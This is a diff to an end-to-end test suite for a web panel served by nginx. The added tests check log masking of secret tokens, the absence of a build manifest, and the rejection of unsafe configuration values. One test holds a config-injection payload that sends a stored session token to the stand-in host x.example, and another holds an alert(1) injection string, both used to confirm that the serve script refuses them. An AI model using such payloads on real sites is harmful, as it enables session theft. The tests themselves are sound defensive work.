@@ -8,7 +8,7 @@ import { db } from '@mocks/db';
 import { DEMO_CREDENTIALS } from '@mocks/db/seed';
 import { startMockServer, type RunningMockServer } from '@mocks/server';
 import { parsePolicy } from '../hardening/security/deploy-headers';
-import { fingerprint, serveWithNginx, type NginxSite } from '../../scripts/lib/nginx-site';
+import { fingerprint, freePort, runServeScript, serveWithNginx, type NginxSite } from '../../scripts/lib/nginx-site';
 import { bodyRows, chooseOption, useBrowser, useLiveSite } from './fixtures';
 
 /**
@@ -202,7 +202,8 @@ describe('the live build served by deploy/serve-nginx.sh, configured at start', 
       'buildSeed',
       'DEMO_CREDENTIALS',
       'Modo demonstração',
-      '127.0.0.1',
+      // An address (Sentry's SDK, loaded only with a DSN, names the bare host to tell local pages apart).
+      'http://127.0.0.1',
       'api.anoreg.org.br',
     ]) {
       expect(code).not.toContain(trace);
@@ -238,22 +239,100 @@ describe('the live build served by deploy/serve-nginx.sh, configured at start', 
     const health = await fetch(`${site.url}/healthz`);
     expect([health.status, await health.text()]).toEqual([200, 'ok\n']);
 
+    // The routes ignore case, so /COBRANCA/{id} opens the slip too: masked all the same.
     for (const path of [
       '/cadastrar-senha/token-secreto-1',
       '/cadastrar-senha-associado/token-secreto-2',
       '/cobranca/pagamento-secreto-3',
+      '/CADASTRAR-SENHA/TOKEN-SECRETO-4',
+      '/Cadastrar-Senha-Associado/Token-Secreto-5',
+      '/COBRANCA/PAGAMENTO-SECRETO-6',
+      '/Cobranca/pagamento-secreto-7?x=1',
+      // The router decodes the path: this opens the slip too.
+      '/%63obranca/pagamento-secreto-8',
     ]) {
       const page = await fetch(`${site.url}${path}`);
       expect([path, page.status, page.headers.get('content-type')]).toEqual([path, 200, 'text/html; charset=utf-8']);
     }
-    await expect.poll(async () => (await site.accessLog()).some((line) => line.includes('/cobranca/'))).toBe(true);
+    await expect.poll(async () => (await site.accessLog()).some((line) => line.includes('/Cobranca/'))).toBe(true);
     const log = (await site.accessLog()).join('\n');
     expect(log).toContain('"GET /listas HTTP/1.1" 200');
     expect(log).toContain('"GET /cadastrar-senha/(token) HTTP/1.1" 200');
     expect(log).toContain('"GET /cadastrar-senha-associado/(token) HTTP/1.1" 200');
     expect(log).toContain('"GET /cobranca/(id) HTTP/1.1" 200');
+    expect(log).toContain('"GET /CADASTRAR-SENHA/(token) HTTP/1.1" 200');
+    expect(log).toContain('"GET /Cadastrar-Senha-Associado/(token) HTTP/1.1" 200');
+    expect(log).toContain('"GET /COBRANCA/(id) HTTP/1.1" 200');
+    expect(log).toContain('"GET /Cobranca/(id) HTTP/1.1" 200');
+    expect(log).toContain('"GET /(codificado) HTTP/1.1" 200');
     for (const secret of ['111.444', 'token-secreto', 'pagamento-secreto', 'healthz'])
-      expect(log).not.toContain(secret);
+      expect(log.toLowerCase()).not.toContain(secret);
+  });
+
+  it('does not serve the build manifest (the source paths): the build has none, and the address is the SPA page', async () => {
+    expect((await readdir(live.outDir, { recursive: true })).filter((file) => file.includes('manifest'))).toEqual([]);
+    const manifest = await fetch(`${site.url}/.vite/manifest.json`);
+    expect(manifest.headers.get('content-type')).toBe('text/html; charset=utf-8');
+    expect(await manifest.text()).not.toContain('src/');
+  });
+
+  it('refuses to start with a setting that could become code, under the real nginx, naming the variable', async () => {
+    const exploit =
+      '"});location="https://x.example/?"+localStorage.getItem("anoreg-painel:sessao");//\nhttps://associados.anoreg.org.br/login';
+    for (const [name, value] of [
+      ['PAINEL_ASSOCIATE_PORTAL_URL', exploit],
+      ['PAINEL_CEP_API_URL', `${mock.url}\r`],
+      ['PAINEL_API_URL', `${mock.url}/\u2028x`],
+      ['PAINEL_ASSOCIATE_PORTAL_URL', 'https://portal.exemplo.org.br/\u2029'],
+      ['PAINEL_SENTRY_RELEASE', '1.7.22\n"});alert(1);//'],
+    ]) {
+      const port = await freePort();
+      const started = await runServeScript(live.outDir, port, { PAINEL_API_URL: mock.url, [name]: value });
+      expect([name, started.code, started.output]).toEqual([
+        name,
+        1,
+        `serve-nginx: ${name} inválida: contém uma quebra de linha, um caractere de controle ou um separador de linha Unicode (U+2028, U+2029). Cada configuração é uma única linha de texto.\n`,
+      ]);
+      await expect(fetch(`http://127.0.0.1:${port}/healthz`)).rejects.toThrow();
+    }
+    const tooLong = await runServeScript(live.outDir, await freePort(), {
+      PAINEL_API_URL: mock.url,
+      PAINEL_ASSOCIATE_PORTAL_URL: `https://portal.exemplo.org.br/${'a'.repeat(2100)}`,
+    });
+    expect([tooLong.code, tooLong.output]).toEqual([
+      1,
+      'serve-nginx: PAINEL_ASSOCIATE_PORTAL_URL inválida: tem 2130 caracteres (no máximo 2048).\n',
+    ]);
+  });
+
+  it('the page reads settings with quotes, <, >, & and a long address exactly as given: /config.js holds them as JSON', async () => {
+    const release = 'painel "1.7" <script>&<!--';
+    const portal = `https://portal.exemplo.org.br/${'a'.repeat(2000)}`;
+    const ingest = `http://chave@127.0.0.1:${await freePort()}/1`;
+    const second = await serveWithNginx(live.outDir, {
+      PAINEL_API_URL: mock.url,
+      PAINEL_ASSOCIATE_PORTAL_URL: portal,
+      PAINEL_SENTRY_DSN: ingest,
+      PAINEL_SENTRY_RELEASE: release,
+    });
+    try {
+      const watched = await watchedContext(browser);
+      await watched.page.goto(`${second.url}/`);
+      await watched.page.getByRole('heading', { name: 'Entrar' }).waitFor();
+      expect(await watched.page.evaluate(() => window.__PAINEL_CONFIG__)).toEqual({
+        apiUrl: mock.url,
+        cepApiUrl: 'https://brasilapi.com.br/api',
+        associatePortalUrl: portal,
+        requestTimeoutMs: 30000,
+        sentryDsn: ingest,
+        sentryEnvironment: 'producao',
+        sentryRelease: release,
+      });
+      expect(await watched.problems()).toEqual([]);
+      await watched.context.close();
+    } finally {
+      await second.close();
+    }
   });
 
   it('signs in, shows the lists, an associate, a remessa, a dialog and the CEP lookup without any violation or console error', async () => {
